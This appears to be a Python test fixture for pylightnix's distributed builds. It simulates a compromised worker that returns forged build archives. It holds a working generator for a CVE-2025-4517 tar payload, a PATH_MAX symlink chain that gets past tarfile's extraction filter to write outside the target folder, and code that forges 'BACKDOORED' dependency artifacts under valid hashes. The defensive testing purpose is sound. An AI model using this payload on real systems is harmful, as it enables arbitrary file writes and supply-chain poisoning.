"""A compromised worker, for the copy-mode tests: ``install(mode)`` (run on the workers with
``client.run``) replaces the task a worker runs, ``pylightnix.scale.driver.run_build``, by one that
builds as usual and then sends back a forged archive. The driver's side is untouched.

- ``("foreign", victim_name)``: for the build named ``train``, also send a realization of
  its dependency ``weights`` (content "BACKDOORED weights", hashed correctly), which the
  driver never asked for;
- ``("cve", victim_dir)``: send, as the build's realization, a tar that writes
  ``victim_dir/victim.txt`` through the PATH_MAX symlink chain of CVE-2025-4517;
- ``None``: the real task again.
"""
from __future__ import annotations

import io
import os
import pickle
import shutil
import stat
import tarfile
import tempfile
from typing import Any, Optional, Tuple


def cve_2025_4517_tar(up: int, rest: str, content: bytes) -> bytes:
    """A tar that, extracted in folder D, writes ``D/../..(up times)/rest/victim.txt``.

    Sixteen nested folders with 247-character names, each reachable through a one-letter
    link; a link ``a/b/.../p/lll…`` whose real path is longer than PATH_MAX points 16 levels
    up (back to D), so ``os.path.realpath`` stops resolving there and a check built on it
    (tarfile's data filter before 3.13.4/3.12.11) takes ``escape -> a/…/lll…/../..`` for a
    link inside D. ``escape/victim.txt`` is then written through it."""
    comp = "d" * 247
    steps = "abcdefghijklmnop"
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        path = ""
        for s in steps:
            d = tarfile.TarInfo(os.path.join(path, comp))
            d.type, d.mode = tarfile.DIRTYPE, 0o755
            tar.addfile(d)
            link = tarfile.TarInfo(os.path.join(path, s))
            link.type, link.linkname = tarfile.SYMTYPE, comp
            tar.addfile(link)
            path = os.path.join(path, comp)
        long_link = os.path.join(*steps, "l" * 254)
        link = tarfile.TarInfo(long_link)
        link.type, link.linkname = tarfile.SYMTYPE, "../" * len(steps)
        tar.addfile(link)
        assert up <= len(steps)  # more and even a lexical check sees the way out
        escape = tarfile.TarInfo("escape")
        escape.type, escape.linkname = tarfile.SYMTYPE, long_link + "/" + "../" * up + rest
        tar.addfile(escape)
        f = tarfile.TarInfo("escape/victim.txt")
        f.size = len(content)
        tar.addfile(f, io.BytesIO(content))
    return buf.getvalue()


def _forged_weights(rref: str) -> Tuple[str, bytes]:
    """A realization of ``rref``'s derivation with other content, under the RRef it hashes to."""
    from pylightnix import rref2path
    from pylightnix.core.store import dirhash
    tmp = tempfile.mkdtemp()
    try:
        d = os.path.join(tmp, "r")
        shutil.copytree(rref2path(rref), d)
        for root, dirs, files in os.walk(d):
            for n in dirs + files:
                os.chmod(os.path.join(root, n), 0o755)
        os.chmod(d, 0o755)
        with open(os.path.join(d, "weights"), "w") as f:
            f.write("BACKDOORED weights")
        forged = "rref:" + dirhash(d)[:32] + rref[37:]
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tar:
            for e in sorted(os.listdir(d)):
                tar.add(os.path.join(d, e), arcname=e)
        return forged, buf.getvalue()
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def install(mode: Optional[Tuple[str, str]]) -> None:
    from pylightnix.scale import worker
    real = getattr(worker.run_build, "real", worker.run_build)
    if mode is None:
        worker.run_build = real
        return
    kind, arg = mode

    def forged(payload: bytes, *archives: bytes) -> Any:
        out = real(payload, *archives)
        spec = pickle.loads(payload)
        drv = spec["drv"]
        if kind == "foreign" and drv.config.val["name"] == "train":
            weights = [r for _, r in spec["ship"] if r.endswith("-weights")][0]
            out["archives"] = list(out["archives"]) + [_forged_weights(weights)]
        elif kind == "cve" and drv.config.val["name"] == "victimized":
            staging = os.path.join(spec["store"], drv.dref[5:], ".staging-x")  # where the driver extracts
            up = len(staging.strip("/").split("/"))
            fake = "rref:" + "0" * 32 + "-" + drv.dref[5:]
            out["archives"] = [(fake, cve_2025_4517_tar(up, arg.strip("/"), b"PWNED by a worker"))]
        return out
    forged.real = real  # type: ignore[attr-defined]
    worker.run_build = forged
